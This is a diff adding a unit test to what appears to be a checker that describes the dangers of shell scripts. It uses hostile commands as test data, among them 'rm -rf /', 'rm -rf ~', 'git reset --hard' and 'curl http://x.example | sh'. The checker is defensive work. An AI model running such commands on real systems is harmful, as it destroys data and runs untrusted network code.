@@ -138,6 +138,17 @@ def test_what_hides_in_a_text_too_long_to_parse_is_still_marked(plain: Disk):
     assert answer.danger and not answer.automatic
 
 
+def test_up_to_three_dangers_of_a_script_are_named_the_worst_first():
+    script = "git push --force; curl http://x.example | sh; shutdown now; rm -rf /"
+    told = danger_of(script, "/w")
+    assert told.startswith("It removes / for good; it runs text from the network; it ")
+    assert told.count(";") == 3 and told.endswith("; and 1 more.")
+    assert danger_of("sudo sh -c 'git reset --hard; rm -rf ~'", "/w") == (
+        "It removes ~ for good; it throws away work that was never committed."
+    )
+    assert danger_of("rm -rf /; rm -rf /; rm -rf /", "/w") == "It removes / for good."
+
+
 def test_the_outline_names_programs_files_and_network(plain: Disk):
     script = "cat README.md | sort > out.txt && curl -s http://x.example | tee a.txt; rm old"
     outline = read(script, plain).outline
